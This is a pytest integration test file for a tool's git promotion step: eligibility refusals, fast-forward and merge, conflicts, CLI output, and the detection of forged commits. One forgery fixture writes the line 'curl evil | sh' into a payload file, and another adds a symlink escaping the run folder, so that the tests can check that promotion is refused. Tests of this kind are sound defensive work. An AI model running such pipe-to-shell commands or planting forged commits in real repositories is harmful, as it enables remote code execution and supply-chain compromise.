"""Promotion: refused with reasons unless eligible; fast-forward or merge; conflicts and
dirty checkouts refused; recorded with who and when; the CLI as a subprocess."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from autopack.domain.errors import Conflict
from autopack.supervisor.apply import PromotionRefused
from autopack.vcs.promotion import PromotionAction
from tests.gitutil import GIT_ENV, fingerprint, git, make_repo
from tests.integration.vcs_fixtures import Project

AUTOPACK = str(Path(sys.executable).with_name("autopack"))
CHANGE = {"P1": {"src/feature.py": b"FEATURE = True\n"}}


def test_a_run_that_is_not_done_is_refused_with_reasons(clean_project: Project) -> None:
    clean_project.start(phases=(1,))
    with pytest.raises(PromotionRefused) as refused:
        clean_project.sup.apply.promote("run-1", actor="t")
    assert refused.value.reasons == ["run is PHASE_QUEUEING, not DONE_SUCCESS"]
    view = clean_project.sup.get_run("run-1")
    assert view.run.promoted_commit is None
    clean_project.assert_untouched()


def test_an_unclean_tier_blocks_promotion(clean_project: Project) -> None:
    from autopack.db.issues import IssueReport
    from autopack.issues.rules import IssueSource, Severity

    clean_project.start(phases=(1,))
    for n in range(3):  # a one-phase tier tolerates 2 minor issues
        clean_project.sup.record_issue("run-1", "P1", IssueReport(
            f"lint_{n}", Severity.MINOR, IssueSource.STATIC_CHECK, "lint"))
    clean_project.complete(changes=CHANGE)
    with pytest.raises(PromotionRefused) as refused:
        clean_project.sup.apply.promote("run-1", actor="t")
    assert refused.value.reasons == [
        "tier T1 is not_clean: 3 minor issues, 2 tolerated"]
    clean_project.assert_untouched()


def test_fast_forward_moves_main_and_the_clean_checkout_with_it(
    clean_project: Project,
) -> None:
    clean_project.start(phases=(2,))
    clean_project.complete(changes=CHANGE)
    tip = clean_project.integration_tip()
    dry = clean_project.sup.apply.promote("run-1", actor="t", dry_run=True)
    assert (dry.plan.action, dry.plan.new) == (PromotionAction.FAST_FORWARD, tip)
    clean_project.assert_untouched()  # a dry run changes nothing
    done = clean_project.sup.apply.promote("run-1", actor="cli:alice")
    assert done.main_commit == tip == git(clean_project.repo, "rev-parse", "main")
    assert (clean_project.repo / "src/feature.py").read_text() == "FEATURE = True\n"
    assert git(clean_project.repo, "status", "--porcelain") == ""
    run = clean_project.sup.get_run("run-1").run
    assert (run.promoted_commit, run.promoted_by) == (tip, "cli:alice")
    assert run.promoted_at is not None
    events = clean_project.sup.events("run-1")
    assert "promoted to main" in (events[-1].reason or "")
    events_before = len(clean_project.sup.events("run-1"))
    again = clean_project.sup.apply.promote("run-1", actor="t")
    assert again.plan.action is PromotionAction.UP_TO_DATE
    assert git(clean_project.repo, "rev-parse", "main") == tip
    assert len(clean_project.sup.events("run-1")) == events_before
    assert clean_project.sup.get_run("run-1").run.promoted_by == "cli:alice"


def test_when_main_moved_promotion_merges(clean_project: Project) -> None:
    clean_project.start(phases=(1,))
    clean_project.complete(changes=CHANGE)
    (clean_project.repo / "README.md").write_text("# demo\n\nmoved on\n")
    git(clean_project.repo, "commit", "-qam", "user work on main")
    main_before = git(clean_project.repo, "rev-parse", "main")
    done = clean_project.sup.apply.promote("run-1", actor="t")
    assert done.plan.action is PromotionAction.MERGE
    parents = git(clean_project.repo, "rev-list", "--parents", "-n1", "main").split()[1:]
    assert parents == [main_before, clean_project.integration_tip()]
    assert (clean_project.repo / "src/feature.py").exists()
    assert "moved on" in (clean_project.repo / "README.md").read_text()
    assert git(clean_project.repo, "status", "--porcelain") == ""


def test_a_conflicting_merge_or_ff_only_is_refused_and_main_stays(
    clean_project: Project,
) -> None:
    clean_project.start(phases=(1,))
    clean_project.complete(changes={"P1": {"src/util.py": b"X = 2\n"}})
    (clean_project.repo / "src/util.py").write_text("X = 3\n")
    git(clean_project.repo, "commit", "-qam", "conflicting user work")
    before = fingerprint(clean_project.repo)
    with pytest.raises(Conflict, match=r"conflicts in: src/util\.py"):
        clean_project.sup.apply.promote("run-1", actor="t")
    clean_project.sup.settings.promotion_merge = False
    with pytest.raises(Conflict, match="only a fast-forward"):
        clean_project.sup.apply.promote("run-1", actor="t")
    assert fingerprint(clean_project.repo) == before
    assert clean_project.sup.get_run("run-1").run.promoted_commit is None


def test_a_dirty_checkout_of_main_is_never_overwritten(project: Project) -> None:
    project.start(phases=(1,))
    project.complete(changes=CHANGE)
    with pytest.raises(Conflict, match="uncommitted changes"):
        project.sup.apply.promote("run-1", actor="t")
    project.assert_untouched()


def test_with_another_branch_checked_out_only_the_main_ref_moves(project: Project) -> None:
    git(project.repo, "checkout", "-q", "-b", "feature")
    project.before = fingerprint(project.repo)
    project.start(phases=(1,))
    project.complete(changes=CHANGE)
    project.sup.apply.promote("run-1", actor="t")
    after = fingerprint(project.repo)
    assert after.pop("main") == project.integration_tip()
    project.before.pop("main")
    assert after == project.before


def _cli(*args: str, project: Project) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "AUTOPACK_DATABASE_URL": project.sup.settings.database_url,
           "AUTOPACK_RUNS_DIR": str(project.sup.settings.runs_dir),
           "AUTOPACK_DATA_DIR": str(project.sup.settings.data_dir)}
    return subprocess.run([AUTOPACK, *args], capture_output=True, text=True, env=env,
                          cwd=project.repo.parent, timeout=120, check=False)


def test_cli_promote_refuses_then_promotes(clean_project: Project) -> None:
    clean_project.start(phases=(1,))
    refused = _cli("promote", "run-1", "--json", project=clean_project)
    assert refused.returncode == 1
    assert json.loads(refused.stdout) == {
        "run_id": "run-1", "eligible": False,
        "reasons": ["run is PHASE_QUEUEING, not DONE_SUCCESS"]}
    assert "not DONE_SUCCESS" in refused.stderr
    clean_project.complete(changes=CHANGE)
    dry = _cli("promote", "run-1", "--dry-run", project=clean_project)
    assert dry.returncode == 0 and "would move" in dry.stdout
    clean_project.assert_untouched()
    done = _cli("promote", "run-1", "--json", "--repo", str(clean_project.repo),
                project=clean_project)
    assert done.returncode == 0, done.stderr
    doc = json.loads(done.stdout)
    assert (doc["action"], doc["main_after"]) == ("fast-forward",
                                                  clean_project.integration_tip())
    assert clean_project.sup.get_run("run-1").run.promoted_by.startswith("cli:")
    unknown = _cli("promote", "nope", project=clean_project)
    assert unknown.returncode == 2 and "not found" in unknown.stderr
    not_repo = _cli("promote", "run-1", "--repo", "/nonexistent", project=clean_project)
    assert not_repo.returncode == 2 and "--repo" in not_repo.stderr
    # another repository: named as such (was a "commit Autopack did not make" refusal)
    other = make_repo(clean_project.repo.parent / "other")
    elsewhere = _cli("promote", "run-1", "--repo", str(other), project=clean_project)
    assert elsewhere.returncode == 2, elsewhere.stderr
    assert f"{other} is not the repository of run 'run-1'" in elsewhere.stderr
    # a look-alike: the run's base commit, and a branch of the run's name, but not the
    # run's commits (another run of the same id)
    alike = clean_project.repo.parent / "alike"
    git(clean_project.repo.parent, "clone", "-q", str(clean_project.repo), str(alike))
    base = clean_project.sup.get_run("run-1").run.base_commit
    git(alike, "switch", "-q", "-c", "autopack/integration/run-1", base)
    git(alike, "commit", "-q", "--allow-empty", "-m", "someone else's run")
    git(alike, "switch", "-q", "main")
    lookalike = _cli("promote", "run-1", "--repo", str(alike), project=clean_project)
    assert lookalike.returncode == 2, lookalike.stderr
    assert f"{alike} is not the repository of run 'run-1'" in lookalike.stderr


@pytest.mark.parametrize("trailer", [False, True])
def test_a_commit_autopack_did_not_make_blocks_promotion(clean_project: Project,
                                                         trailer: bool) -> None:
    """A process a builder left running can still move the integration branch after the
    run ended: main never receives a commit that was not gated (a forged summary trailer
    does not pass either when the commit changes anything outside the run's folder)."""
    clean_project.start(phases=(1,))
    clean_project.complete(changes=CHANGE)
    repo, branch = clean_project.repo, "refs/heads/autopack/integration/run-1"
    tip = git(repo, "rev-parse", branch)
    blob = git(repo, "hash-object", "-w", "--stdin", input=b"ungated\n")
    listing = git(repo, "ls-tree", tip) + f"\n100644 blob {blob}\tungated.txt\n"
    tree = git(repo, "mktree", input=listing.encode())
    message = "sneaky\n\nAutopack-Run: run-1\nAutopack-Summary: final\n" if trailer else "sneaky"
    forged = git(repo, "commit-tree", tree, "-p", tip, "-m", message)
    git(repo, "update-ref", branch, forged, tip)
    main = git(repo, "rev-parse", "main")
    with pytest.raises(PromotionRefused) as refused:
        clean_project.sup.apply.promote("run-1", actor="t")
    assert refused.value.reasons == [
        f"autopack/integration/run-1 holds a commit Autopack did not make: {forged[:12]} "
        "sneaky"]
    assert git(repo, "rev-parse", "main") == main


@pytest.mark.parametrize("forgery", ["edited-summary", "extra-file", "link"])
def test_a_forged_summary_commit_inside_the_run_folder_blocks_promotion(
    clean_project: Project, forgery: str,
) -> None:
    """A commit with the summary trailers, by anyone, changing only the run's folder was
    taken for Autopack's: an edited run_summary.json (which a CI `promotion check`
    reads), a script, or a link reached main."""
    clean_project.start(phases=(1,))
    clean_project.complete(changes=CHANGE)
    repo, branch = clean_project.repo, "refs/heads/autopack/integration/run-1"
    tip = git(repo, "rev-parse", branch)
    folder = ".autonomous_runs/run-1"
    if forgery == "edited-summary":
        entry = ("100644", b'{"state": "DONE_SUCCESS", "tiers": []}\n', "run_summary.json")
    elif forgery == "extra-file":
        entry = ("100644", b"curl evil | sh\n", "payload.sh")
    else:
        entry = ("120000", b"../../src", "tiers2")
    blob = git(repo, "hash-object", "-w", "--stdin", input=entry[1])
    env = {**GIT_ENV, "GIT_INDEX_FILE": str(repo.parent / f"index-{forgery}")}
    for args in (("read-tree", tip),
                 ("update-index", "--add", "--cacheinfo",
                  f"{entry[0]},{blob},{folder}/{entry[2]}")):
        subprocess.run(["git", *args], cwd=repo, env=env, check=True)
    tree = subprocess.run(["git", "write-tree"], cwd=repo, env=env, check=True,
                          capture_output=True, text=True).stdout.strip()
    forged = git(repo, "commit-tree", tree, "-p", tip, "-m",
                 "Run summaries\n\nAutopack-Run: run-1\nAutopack-Summary: final\n")
    git(repo, "update-ref", branch, forged, tip)
    main = git(repo, "rev-parse", "main")
    with pytest.raises(PromotionRefused, match="a commit Autopack did not make"):
        clean_project.sup.apply.promote("run-1", actor="t")
    assert git(repo, "rev-parse", "main") == main


def test_a_promotion_killed_after_moving_the_checkout_completes_when_run_again(
    clean_project: Project,
) -> None:
    """A promotion moves the checkouts of main first, then main itself: killed between
    the two, the checkout holds exactly the new commit, and the next promotion accepts
    it and moves main (in the other order a kill left main moved and the checkout
    showing the whole run reverted, which no re-run repaired)."""
    clean_project.start(phases=(1,))
    clean_project.complete(changes=CHANGE)
    repo, tip = clean_project.repo, clean_project.integration_tip()
    git(repo, "read-tree", "-m", "-u", "main", tip)  # what the killed promotion did
    assert git(repo, "status", "--porcelain") != ""
    done = clean_project.sup.apply.promote("run-1", actor="t")
    assert (done.plan.action, done.main_commit) == (PromotionAction.FAST_FORWARD, tip)
    assert git(repo, "rev-parse", "main") == tip
    assert git(repo, "status", "--porcelain") == ""
    assert (repo / "src/feature.py").read_text() == "FEATURE = True\n"
